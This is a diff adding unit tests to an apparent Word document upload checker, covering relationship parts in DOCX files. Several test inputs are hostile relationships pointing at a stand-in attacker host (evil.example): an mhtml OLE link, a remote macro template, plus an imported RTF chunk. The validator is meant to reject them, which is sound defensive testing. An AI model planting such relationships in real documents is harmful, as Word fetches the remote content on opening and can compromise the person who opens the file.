@@ -97,6 +97,30 @@ describe("a DOCX's content types and parts", () => {
   });
 });
 
+describe("a DOCX's relationships", () => {
+  const R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+  const documentRels = (relationship: string) =>
+    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`;
+  const withRels = (relationship: string, deflate = false) => sampleDocx({ parts: { "word/_rels/document.xml.rels": documentRels(relationship) }, deflate });
+
+  it("keeps a link to the applicant's site", () => {
+    expect(inspectDocx(withRels(`<Relationship Id="rId9" Type="${R}/hyperlink" Target="https://giulia.example" TargetMode="External"/>`))).toBe("ok");
+  });
+
+  it("refuses what Word would fetch or import on opening: an mhtml OLE link, a remote template, an imported chunk, an RTF part", () => {
+    const active = [
+      `<Relationship Id="rId9" Type="${R}/oleObject" Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>`,
+      `<Relationship Id="rId9" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
+      `<Relationship Id="rId9" Type="${R}/aFChunk" Target="chunk.rtf"/>`,
+    ];
+    for (const relationship of active) {
+      expect(inspectDocx(withRels(relationship)), relationship).toBe("content");
+      expect(inspectDocx(withRels(relationship, true)), `deflated ${relationship}`).toBe("content");
+    }
+    expect(inspectDocx(sampleDocx({ declarations: '<Default Extension="rtf" ContentType="application/rtf"/>' }))).toBe("content");
+  });
+});
+
 describe("a DOC's storages", () => {
   it("accepts a Word 97–2003 document, with the empty ObjectPool Word writes", () => {
     expect(inspectDoc(sampleCompoundFile("WordDocument"))).toBe("ok");
